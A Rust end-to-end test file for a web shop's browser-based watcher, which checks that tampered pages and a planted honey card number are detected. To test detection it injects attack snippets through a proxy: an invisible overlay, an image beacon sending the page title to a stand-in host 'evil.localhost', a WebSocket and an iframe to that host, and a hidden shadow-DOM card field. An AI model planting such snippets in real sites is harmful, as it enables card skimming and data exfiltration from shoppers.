//! A real browser walks through the shop for the watch: quiet while all is well, and it sees what only a browser sees.
#![allow(clippy::unwrap_used)]

use e2e::proxy::{Change, Proxy};
use serde_json::Value;
use std::{
    fs,
    io::Write,
    process::Command,
    time::{Duration, Instant},
};
use testkit::Dozo;

/// How often the quiet shop is walked through; a hundred times by `DOZO_WALKS=100`.
fn quiet_walks() -> u32 {
    std::env::var("DOZO_WALKS").ok().and_then(|n| n.parse().ok()).unwrap_or(6)
}

fn no_chromium() -> bool {
    let missing = !std::path::Path::new("/usr/lib/chromium/chromium").exists();
    if missing {
        testkit::skip(&testkit::test_name(), "chromium is not installed");
    }
    missing
}

/// Walks, and what was seen; whether every walk came to its end.
fn walk(shop: &Dozo, at: Option<&Proxy>, walks: u32) -> (bool, Vec<Value>, String) {
    let mut command = Command::new(testkit::binary().unwrap());
    command.args(["watch", "look", "--browser", "--json", "--rounds", &walks.to_string()]);
    command.args(at.iter().flat_map(|proxy| ["--shop", &proxy.origin])).arg("--data").arg(shop.data());
    let out = command.output().unwrap();
    let told = String::from_utf8_lossy(&out.stderr).into_owned();
    let text = String::from_utf8(out.stdout).unwrap();
    let seen = text.lines().map(|line| serde_json::from_str::<Value>(line).unwrap()["seen"].clone());
    (out.status.success(), seen.collect(), told)
}

const EVIL: &str = "http://evil.localhost:9/";

#[test]
fn only_a_browser_sees_it() {
    if no_chromium() {
        return;
    }
    let shop = Dozo::start();
    let began = Instant::now();
    let quiet = walk(&shop, None, quiet_walks());
    assert!(quiet.0 && quiet.1.is_empty(), "{quiet:#?}");
    eprintln!("{} quiet walks, {:?} each", quiet_walks(), began.elapsed() / quiet_walks());

    let proxy = Proxy::start(&shop).unwrap();
    let quiet = walk(&shop, Some(&proxy), 2);
    assert!(quiet.0, "{quiet:#?}");
    let open = Change::NoHeader("content-security-policy");
    let script = |text: &'static str| [open, Change::Page("</body>", text)];
    for (kind, page, changes) in [
        (
            "covered",
            "cart",
            script(
                "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;opacity:0\"></div></body>",
            ),
        ),
        (
            "request",
            "product",
            script("<script>new Image().src='http://evil.localhost:9/?'+document.title</script></body>"),
        ),
        ("script", "product", script("<script>let x = 1</script></body>")),
        ("socket", "checkout", script("<script>new WebSocket('ws://evil.localhost:9/')</script></body>")),
        ("frame", "cart", script("<iframe src=\"http://evil.localhost:9/\"></iframe></body>")),
        (
            "field",
            "checkout",
            script(
                "<script>let d=document.createElement('div');document.body.append(d);d.attachShadow({mode:'closed'}).innerHTML='<input name=cc>'</script></body>",
            ),
        ),
        ("header", "confirm", [open, open]),
    ] {
        proxy.set(&changes);
        let began = Instant::now();
        let (_, seen, told) = walk(&shop, Some(&proxy), 1);
        let is = |seen: &&Value| seen["kind"] == kind && seen["page"] == page;
        assert!(seen.iter().any(|seen| is(&seen)), "{kind}: {seen:#?} {told}");
        eprintln!("{kind}: seen after {:?}, browser started", began.elapsed());
        let text = format!("{seen:?}");
        assert!(!text.contains(EVIL) && !text.contains("document"), "nothing of the page is told: {text}");
    }
}

#[test]
fn the_honey_card_is_declined_and_turns_up_nowhere() {
    if no_chromium() {
        return;
    }
    let folder = testkit::temp_dir();
    let data = folder.path().join("data");
    drop(Dozo::builder().data(&data).start().unwrap());
    let settings = data.join("dozo.toml");
    let text = fs::read_to_string(&settings).unwrap() + "\n[watch]\ntest_orders = true\n";
    fs::write(&settings, text).unwrap();
    let began_ms = jiff::Timestamp::now().as_millisecond();
    let shop = Dozo::builder().data(&data).with_browser().start().unwrap();
    let report = || -> Value {
        let text = fs::read(data.join("run/eyes/seen.json")).unwrap_or_default();
        serde_json::from_slice(&text).unwrap_or_default()
    };
    let until = |what: &str, is: &dyn Fn(&Value) -> bool| {
        let end = Instant::now() + Duration::from_secs(120);
        while !is(&report()) {
            assert!(Instant::now() < end, "{what}: {}\n{}", report(), shop.log());
            std::thread::sleep(Duration::from_millis(200));
        }
    };
    until("three walks", &|report| report["walks"].as_u64() >= Some(3));
    let now = report();
    assert!(now["seen"] == serde_json::json!([]) && now["failed"].is_null(), "{now}");
    let number = now["honey"].as_str().unwrap().to_owned();
    let db = rusqlite::Connection::open(data.join("shop/shop.db")).unwrap();
    let sql = "select count(*) from card_entry where outcome = 'failed' and last4 = $1 and opened_at > $2";
    let own = (&number[12..], began_ms);
    let declined: u32 = db.query_row(sql, own, |row| row.get(0)).unwrap();
    assert_eq!(declined, 1, "one test order, declined");
    let out = Command::new("grep").args(["-rlF", &number]).arg(&data).output().unwrap();
    let files = String::from_utf8(out.stdout).unwrap();
    let known = data.join("run/eyes/seen.json");
    assert_eq!(files.lines().collect::<Vec<_>>(), [known.to_str().unwrap()], "known to the eyes alone");

    // Where it turns up, also between letters, it is found.
    let mut log = fs::OpenOptions::new().append(true).open(data.join("logs/web.jsonl")).unwrap();
    writeln!(log, "{{\"id\":\"a{number}b\"}}").unwrap();
    let found = || {
        let out = Command::new(testkit::binary().unwrap())
            .args(["watch", "findings", "--json", "--data"])
            .arg(&data)
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).contains("\"what\":\"card_number\",\"file\":\"logs/web.jsonl\"")
    };
    let end = Instant::now() + Duration::from_secs(20);
    while !found() {
        assert!(Instant::now() < end, "the honey card in a log is not found");
        std::thread::sleep(Duration::from_millis(200));
    }
}
